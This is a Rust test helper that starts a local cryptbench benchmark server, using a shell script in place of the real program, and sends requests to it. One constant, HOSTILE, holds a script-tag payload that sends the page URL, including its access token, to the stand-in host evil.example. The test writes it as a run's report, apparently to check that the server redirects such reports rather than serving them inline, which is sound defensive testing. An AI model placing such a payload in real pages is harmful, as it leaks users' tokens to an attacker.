//! A real server for a test, on a separate port, with a script in place of the program.
#![allow(dead_code, reason = "each test binary uses a part of it")]

use std::ffi::OsString;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use cryptbench_record::Plan;
use cryptbench_serve::{
    Catalogue, Choice, Format, Invalid, Offered, Profile, Server, Site, System,
};

/// Maximum time to wait for anything. The tests do not check how long it takes.
pub const PATIENCE: Duration = Duration::from_secs(60);

/// Text in the event that reports the end of a run.
pub const ENDED: &str = "\"event\":\"ended\"";

/// Reports events like a run, until the file `end` exists or SIGINT arrives. Writes its arguments to `arguments`,
/// and its actions in order to `done`. Files change its behaviour. With `die`, it is killed. With `heir`, it exits
/// and leaves a process behind that keeps its standard error open and writes to it once `tell` exists. With `slow`,
/// a comparison takes until that file is removed.
const PROGRAM: &str = r#"#!/bin/sh
cd "${0%/*}" || exit
case "$1 $2 $3" in
"run --progress json")
    printf '%s\n' "$*" >> arguments
    echo run >> done
    trap 'echo "{\"event\":\"saved\",\"directory\":\"/runs/cancelled\"}" >&2; echo interrupted >> told; exit 130' INT
    echo '{"event":"study","study":"A","tables":[]}' >&2
    n=0
    while [ ! -e end ]; do
        n=$((n + 1))
        echo "{\"event\":\"checking\",\"arm_id\":\"a\",\"n\":$n,\"filler\":\"$(printf %0900d 7)\"}" >&2 || echo "pipe broken" >> told
        sleep 0.01
        if [ -e die ]; then kill -9 $$; fi
        if [ -e heir ]; then
            rm heir
            echo '{"event":"saved","directory":"/runs/inherited"}' >&2
            (while [ -e program ] && [ ! -e tell ]; do sleep 0.01; done; echo 'of the former run' >&2; echo heir >> done) &
            exit 0
        fi
    done
    echo 'cryptbench: no JSON at all' >&2
    echo finished >> told
    exit 0 ;;
"compare --json --")
    echo asked >> done
    while [ -e slow ]; do sleep 0.01; done
    echo answered >> done
    printf '{"compared":true}' ;;
"compare --json --arm=plain") printf '{"compared":"%s"}' "$*" ;;
"compare --json --arm=none")
    echo "cryptbench: $6: has no such choice; $5 has none" >&2; exit 2 ;;
"report --format answer")
    printf '{"answered":"%s"}' "$*" ;;
"report --format html")
    printf '%s\n' "$*" >> asked
    printf '<h1>rendered</h1>' ;;
"report --format csv") printf 'a,b\n' ;;
"fleet report --html")
    echo fleet >> asked
    printf '<h1>fleet %s</h1>' "$(wc -l < asked)" ;;
*) echo "cryptbench: refused for the test" >&2; exit 3 ;;
esac
"#;

/// The page next to the record of the run `one`.
pub const HOSTILE: &str = "<script>location = 'http://evil.example/?' + location.href</script>";

pub struct Place {
    pub dir: tempfile::TempDir,
    pub port: u16,
    pub token: String,
}

fn catalogue() -> Catalogue {
    let name = |n: &str| n.to_owned();
    let system = |n: &str, here: bool| System {
        name: name(n),
        label: name(n),
        about: name("a system"),
        version: here.then(|| name("1")),
        reason: (!here).then(|| name("not installed")),
        remedy: None,
        settings: Vec::new(),
    };
    Catalogue {
        systems: vec![system("builtin", true), system("absent", false)],
        ciphers: vec![Choice { name: name("aes-256-xts"), label: name("AES-256-XTS") }],
        profiles: vec![Profile { name: name("quick"), about: name("short"), workloads: 4 }],
        formats: vec![Format {
            name: name("csv"),
            label: name("CSV"),
            extension: name("csv"),
            media_type: name("text/csv"),
            arguments: ["report", "--format", "csv"].map(name).to_vec(),
        }],
        ..Catalogue::default()
    }
}

/// The options of the program, and whether they have a value.
const OPTIONS: [(&str, bool); 10] = [
    ("profile", true),
    ("study", true),
    ("system", true),
    ("builtin-only", false),
    ("split", false),
    ("cipher", true),
    ("data-unit", true),
    ("set", true),
    ("budget", true),
    ("size", true),
];

fn names(plan: &Plan) -> Vec<String> {
    plan.arms.iter().map(|arm| format!("named {}", arm.id)).collect()
}

/// Behaves like the program's parser, as far as these tests need it.
fn plan(words: &[OsString]) -> Result<serde_json::Value, Invalid> {
    let words: Vec<&str> = words.iter().filter_map(|word| word.to_str()).collect();
    let refuses = |word: &str| {
        word.ends_with("=never") || word == "--system=absent" || word.starts_with("--cipher=--")
    };
    match words.iter().find(|word| refuses(word)) {
        Some(word) => {
            let option = word.trim_start_matches('-').split('=').next();
            Err(Invalid::value(option, format!("invalid value for {word}")))
        }
        None => Ok(serde_json::json!({ "planned": words.join(" ") })),
    }
}

impl Place {
    pub fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("runs/one")).unwrap();
        fs::create_dir_all(dir.path().join("target")).unwrap();
        fs::write(dir.path().join("runs/one/record.json"), "{}").unwrap();
        fs::write(dir.path().join("runs/one/report.html"), HOSTILE).unwrap();
        fs::write(dir.path().join("secret.json"), "{}").unwrap();
        let program = dir.path().join("program");
        fs::write(&program, PROGRAM).unwrap();
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
        let server = loop {
            // Any free port, because another test may use the port that is tried first.
            let port = 20_000 + (std::process::id() as u16 ^ rand()) % 20_000;
            if let Ok(server) = Server::bind(Some(port)) {
                break server;
            }
        };
        let address = server.address().to_string();
        let port = server.address().port();
        let token = address.trim_end_matches('/').rsplit('/').next().unwrap().to_owned();
        let [runs, fleet] = ["runs", "fleet"].map(|name| dir.path().join(name));
        let options = OPTIONS.map(|(name, takes)| Offered {
            name: name.to_owned(),
            takes: takes.then(|| "VALUE".to_owned()),
            ..Offered::default()
        });
        let site = Site {
            program,
            runs,
            fleet: Some(fleet),
            catalogue,
            names,
            options: options.into(),
            plan,
        };
        std::thread::spawn(move || server.run(site, |_| {}, |_| {}));
        Self { dir, port, token }
    }

    pub fn connect(&self) -> TcpStream {
        let stream = TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        stream.set_write_timeout(Some(PATIENCE)).unwrap();
        stream
    }

    pub fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    /// Sends raw bytes and returns the whole answer, until the server closes the connection.
    pub fn raw(&self, bytes: &[u8]) -> String {
        let mut stream = self.connect();
        // The server may have answered and closed the connection before everything was sent.
        let _ = stream.write_all(bytes);
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        String::from_utf8_lossy(&answer).into_owned()
    }

    /// A request below the token with these header lines.
    pub fn ask(&self, method: &str, path: &str, headers: &[&str], body: &str) -> (u16, String) {
        let mut lines = format!("{method} /{}{path} HTTP/1.1\r\n", self.token);
        if !headers.iter().any(|h| h.to_ascii_lowercase().starts_with("host:")) {
            lines += &format!("Host: {}\r\n", self.host());
        }
        for header in headers {
            lines += &format!("{header}\r\n");
        }
        lines += &format!("Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
        let answer = self.raw(lines.as_bytes());
        (status(&answer), answer)
    }

    pub fn get(&self, path: &str) -> (u16, String) {
        self.ask("GET", path, &[], "")
    }

    /// A request for a path of the server that is not below the token.
    pub fn get_outside(&self, path: &str) -> (u16, String) {
        let host = self.host();
        let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let answer = self.raw(head.as_bytes());
        (status(&answer), answer)
    }

    /// The path to which opening the report of the run `one` redirects, and the answer with the redirect.
    pub fn report(&self) -> (String, String) {
        let (status, answer) = self.get("/runs/one/report.html");
        assert_eq!(status, 303, "{answer}");
        let path = answer.lines().find_map(|line| line.strip_prefix("location: ")).unwrap();
        (path.to_owned(), answer)
    }

    pub fn post(&self, path: &str, body: &str) -> (u16, String) {
        self.ask("POST", path, &["Content-Type: application/json"], body)
    }

    pub fn target(&self) -> PathBuf {
        self.dir.path().join("target")
    }

    /// A valid order with this target.
    pub fn order(&self, target: &std::path::Path) -> String {
        serde_json::json!({ "target": target, "options": { "profile": ["quick"] } }).to_string()
    }

    /// Starts a run, which must be accepted.
    pub fn start(&self) {
        let (status, answer) = self.post("/api/run", &self.order(&self.target()));
        assert_eq!(status, 202, "{answer}");
    }

    /// Creates a file next to the program, which changes the program's behaviour ([`PROGRAM`]).
    pub fn tell(&self, name: &str) {
        fs::write(self.dir.path().join(name), "").unwrap();
    }

    /// The events up to the end of the run.
    pub fn events_until_ended(&self) -> String {
        self.events_until(ENDED, None)
    }

    /// Waits until the file `name` next to the program contains `words`.
    pub fn wait_for(&self, name: &str, words: &str) -> String {
        let path = self.dir.path().join(name);
        wait(|| fs::read_to_string(&path).ok().filter(|text| text.contains(words)))
    }

    /// The events so far, read on a separate connection until `words` arrives.
    pub fn events_until(&self, words: &str, last: Option<u64>) -> String {
        let mut stream = self.connect();
        let last = last.map(|id| format!("Last-Event-ID: {id}\r\n")).unwrap_or_default();
        let head = format!(
            "GET /{}/api/events HTTP/1.1\r\nHost: {}\r\n{last}\r\n",
            self.token,
            self.host()
        );
        stream.write_all(head.as_bytes()).unwrap();
        let (mut text, mut part) = (String::new(), [0; 65536]);
        let begun = Instant::now();
        while !text.contains(words) {
            assert!(begun.elapsed() < PATIENCE, "{words:?} does not come: {text:.2000}");
            let n = stream.read(&mut part).unwrap();
            assert!(n > 0, "the stream ended: {text:.2000}");
            text += &String::from_utf8_lossy(&part[..n]);
        }
        text
    }
}

/// Numbers that differ between tests; nothing depends on their values.
fn rand() -> u16 {
    use std::hash::{BuildHasher as _, Hasher as _};
    std::collections::hash_map::RandomState::new().build_hasher().finish() as u16
}

pub fn status(answer: &str) -> u16 {
    answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0)
}

/// Waits until `found` returns a value, and returns it.
pub fn wait<T>(found: impl Fn() -> Option<T>) -> T {
    let begun = Instant::now();
    loop {
        if let Some(it) = found() {
            return it;
        }
        assert!(begun.elapsed() < PATIENCE, "it does not happen");
        std::thread::sleep(Duration::from_millis(20));
    }
}
